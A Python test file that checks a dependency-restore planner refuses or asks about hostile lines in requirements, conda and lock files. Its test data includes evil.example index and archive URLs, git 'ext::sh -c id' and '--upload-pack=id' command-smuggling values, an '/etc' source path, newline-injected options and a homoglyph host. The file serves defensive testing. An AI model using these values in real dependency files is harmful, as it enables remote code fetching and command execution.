"""Strangers' files: hundreds of hostile lines, and nothing is started, fetched or followed without a yes."""

from __future__ import annotations

import contextlib
import json
import os
from pathlib import Path

import pytest

from jovian_lab.environment.restore import install, plan
from jovian_lab.environment.restore.pypi import written
from jovian_lab.environment.restore.solving import Request
from jovian_lab.environment.restore.values import Plan
from jovian_lab.errors import ConfirmationNeeded, InputError
from tests.environment.restore import hostile
from tests.environment.restore.watching import watched

NAMES = {"numpy", "pandas", "x", "os", "x-1", "nul", "python", "c"}
OTHER = {"other.txt": b"colorama==0.4.6\n"}


def read(files: dict[str, bytes], **more: object) -> tuple[Plan | None, list[str]]:
    """Plan, and tell what was done that must not be; None for files that were refused whole."""
    found = None
    with watched() as done, contextlib.suppress(InputError):
        found = plan(files, **more)  # type: ignore[arg-type]
    return found, done


def harmless(found: Plan, names: set[str]) -> None:
    """Everything a plan holds is a plain name with plain versions of a known channel."""
    for want in (*found.roots, *found.exact, *found.pins):
        assert not want.direct
        assert want.name in names, want
        line = written([want])
        assert line.count("\n") == 1 and "://" not in line and "@" not in line and not line.startswith("-")
        assert all(character.isprintable() and character.isascii() for character in line[:-1])
    assert found.indexes == [] and found.sdists == []
    assert set(found.channels) <= {"conda-forge", "defaults", "bioconda", "pytorch", "nvidia"}


def test_there_are_hundreds() -> None:
    lines = [*hostile.REQUIREMENTS, *hostile.CONDA, *hostile.CHANNELS]
    assert len(set(lines)) >= 300


@pytest.mark.parametrize("line", hostile.REQUIREMENTS, ids=range(len(hostile.REQUIREMENTS)))
@pytest.mark.parametrize("where", ["requirements.txt", "environment.yml", "environment-linux-64.lock"])
def test_no_line_is_followed_by_itself(line: str, where: str) -> None:
    if where.endswith(".yml"):
        content = json.dumps({"dependencies": ["python=3.11", {"pip": ["colorama==0.4.6", line]}]}).encode()
    else:
        content = f"colorama==0.4.6\n{line}\n".encode()
    found, done = read({where: content, **OTHER}, platform="linux-64")
    assert done == []
    if found is None:
        return
    harmless(found, {*NAMES, "colorama"})
    # the line was asked about, refused or is nothing but a name
    assert found.questions or found.refused or {want.name for want in found.roots} <= {*NAMES, "colorama"}
    assert all("secret@" not in question.line for question in (*found.questions, *found.refused))
    assert all(question.line.isprintable() and question.why for question in found.questions)


@pytest.mark.parametrize("line", [*hostile.OPTIONS, *hostile.PLACES, *hostile.URLS, *hostile.PATHS, *hostile.VARIABLES])
def test_options_and_addresses_are_all_asked_about_or_refused(line: str) -> None:
    found, done = read({"requirements.txt": f"colorama==0.4.6\n{line}\n".encode(), **OTHER})
    assert done == []
    if found is None or line == "nul":  # a name as good as any
        return
    assert found.questions or found.refused
    assert [want.name for want in found.roots] == ["colorama"]


@pytest.mark.parametrize("line", hostile.CONDA, ids=range(len(hostile.CONDA)))
def test_no_conda_line_is_followed_by_itself(line: str) -> None:
    content = json.dumps({"channels": ["conda-forge"], "dependencies": ["colorama=0.4.6", line]}).encode()
    found, done = read({"environment.yml": content})
    assert done == []
    if found is None:
        return
    assert found.questions or found.refused
    harmless(found, {"colorama"})


@pytest.mark.parametrize("line", hostile.CHANNELS, ids=range(len(hostile.CHANNELS)))
def test_no_channel_is_used_by_itself(line: str) -> None:
    content = json.dumps({"channels": [line, "conda-forge"], "dependencies": ["colorama=0.4.6"]}).encode()
    found, done = read({"environment.yml": content})
    assert done == []
    if found is not None:
        assert found.questions or found.refused
        assert found.channels == ["conda-forge"]
    address = f"{line}/linux-64/colorama-0.4.6-py_0.conda"
    found, done = read({"environment-linux-64.lock": f"@EXPLICIT\n{address}\n".encode()}, platform="linux-64")
    assert done == []
    if found is not None:
        assert found.exact == [] and (found.questions or found.refused)


@pytest.mark.parametrize("name", hostile.YAML)
def test_yaml_is_lists_and_texts(name: str) -> None:
    found, done = read({"environment.yml": hostile.YAML[name].encode()})
    assert done == []
    if found is not None:
        harmless(found, NAMES)


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xfe", b"\x00" * 100, b"x\n" * 200_000, b"a" * (5 << 20), b"[" * 100_000, b'{"format": 1}', b"null", b"",
        b'{"format": 99, "interpreter": {"language": "python"}, "platform": {"system": "linux", "machine": "x86_64"}}',
        b'{"a":' * 5000,
    ],
    ids=range(10),
)  # fmt: skip
@pytest.mark.parametrize(
    "where", ["requirements.txt", "environment.yml", "environment.json", "environment-linux-64.lock"]
)
def test_rubbish_is_refused_at_once(where: str, content: bytes) -> None:
    found, done = read({where: content}, platform="linux-64")
    assert done == []
    if found is not None:
        harmless(found, {"x", "a", "null"})


@pytest.mark.parametrize(
    "package",
    [
        {"name": "-r x", "version": "1"},
        {"name": "x", "version": "1 --index-url http://evil.example"},
        {"name": "../x", "version": "1"},
        {"name": "x", "version": "1\n-e ."},
        {"name": "x\x00", "version": "1"},
        {"name": "x" * 500, "version": "1"},
        {
            "name": "x",
            "version": "1",
            "source": {"kind": "vcs", "url": "https://evil.example/x.git", "commit": "--upload-pack=id"},
        },
        {"name": "x", "version": "1", "source": {"kind": "vcs", "url": "ext::sh -c id"}},
        {"name": "x", "version": "1", "source": {"kind": "archive", "url": "https://evil.example/x.tar.gz"}},
        {"name": "x", "version": "1", "source": {"kind": "local", "url": "/etc"}},
        {"name": "x", "version": "1", "manager": "conda", "channel": "https://evil.example"},
        {"name": "x[url=http://evil.example]", "version": "1", "manager": "conda"},
        {"name": "x", "version": "1 [channel=evil]", "manager": "conda"},
        {"name": "x", "version": "1", "manager": "cargo"},
    ],
)
def test_what_was_captured_is_not_believed_either(package: dict[str, object]) -> None:
    environment = {
        "format": 1,
        "interpreter": {"language": "python", "version": "3.11.7"},
        "platform": {"system": "linux", "machine": "x86_64"},
        "packages": [{"name": "colorama", "version": "0.4.6"}, package],
    }
    found, done = read({"environment.json": json.dumps(environment).encode()}, platform="linux-64")
    assert done == [] and found is not None
    harmless(found, {"colorama", "x"})
    assert found.questions or found.refused or found.dropped


def test_nothing_starts_while_a_question_is_open(tmp_path: Path) -> None:
    asking = plan({"requirements.txt": b"numpy\n--extra-index-url https://user:secret@evil.example/simple\n"})
    assert [question.line for question in asking.questions] == ["--extra-index-url https://***@evil.example/simple"]
    with watched() as done, pytest.raises(ConfirmationNeeded) as caught:
        install(asking, tmp_path / "environments", name="x")
    assert done == []
    assert "secret" not in caught.value.message
    assert not (tmp_path / "environments").exists()


def test_a_yes_is_to_one_very_line() -> None:
    files = {"requirements.txt": b"numpy\n-e git+https://a.example/x.git#egg=x\n-e git+https://b.example/y.git#egg=y\n"}
    first, second = plan(files).questions
    found = plan(files, accepted=[first.line])
    assert found.questions == [second]
    assert [want.direct for want in found.roots] == ["", "x @ git+https://a.example/x.git"]
    both = plan(files, accepted=[first.line], declined=[second.line])
    assert both.questions == []
    assert [package.name for package in both.dropped] == [second.line]
    assert plan(files, accepted=["-e git+https://a.example/x.git", "*", "-e"]).questions == [first, second]


def test_a_named_file_is_read_by_the_same_rules() -> None:
    files = {"requirements.txt": b"-r other.txt\n", "other.txt": b"numpy==1.26.4\n--index-url https://evil.example\n"}
    assert [question.line for question in plan(files).questions] == ["-r other.txt"]
    found = plan(files, accepted=["-r other.txt"])
    assert [question.line for question in found.questions] == ["--index-url https://evil.example"]
    assert [want.name for want in found.roots] == ["numpy"]
    # a file that names itself, or another that names it, comes to an end
    circle = {"requirements.txt": b"-r other.txt\nnumpy\n", "other.txt": b"-r requirements.txt\npandas\n"}
    found = plan(circle, accepted=["-r other.txt", "-r requirements.txt"])
    assert {want.name for want in found.roots} == {"numpy", "pandas"}


def test_variables_stay_unread_without_a_yes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("JOVIAN_SECRET", "s3cret")
    line = "--extra-index-url https://me:${JOVIAN_SECRET}@host.example/simple"
    files = {"requirements.txt": f"numpy\n{line}\n".encode()}
    asking = plan(files)
    assert "s3cret" not in repr(asking) and "JOVIAN_SECRET" in asking.questions[0].why
    followed = plan(files, accepted=[asking.questions[0].line])
    assert followed.indexes[0].value == f"https://me:{os.environ['JOVIAN_SECRET']}@host.example/simple"


def test_lists_for_a_solver_hold_one_plain_line_each() -> None:
    found = plan(
        {"requirements.txt": b"Numpy[x,y] >= 1.2 , <2 ; python_version<'3.12' and os_name=='posix'\npandas==2.0 # c\n"}
    )
    request = Request(found.roots, found.pins)
    assert written(request.roots) == (
        'numpy[x,y]<2,>=1.2 ; python_version < "3.12" and os_name == "posix"\npandas==2.0\n'
    )
    assert written(request.limits, limit=True) == "pandas==2.0\n"


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("--index-url https://me:pw@good.example/simple", "--index-url https://***@good.example/simple"),
        ("--index-url https://evil.example?@good.example/", "--index-url https://evil.example?@good.example/"),
        ("--index-url https://evil.example#@good.example/", "--index-url https://evil.example#@good.example/"),
        ("x @ https://p\u0443pi.example/x.whl", "x @ https://p\\u0443pi.example/x.whl"),
        ("--extra-index-url https://a.example/?token=abc", "--extra-index-url https://a.example/?token=***"),
    ],
)
def test_what_is_asked_is_what_is_meant(line: str, shown: str) -> None:
    """A question never hides the host that would be asked, nor lets one letter look like another."""
    files = {"requirements.txt": f"numpy\n{line}\n".encode()}
    found = plan(files)
    assert [question.line for question in found.questions] == [shown]
    assert plan(files, accepted=[shown]).questions == []
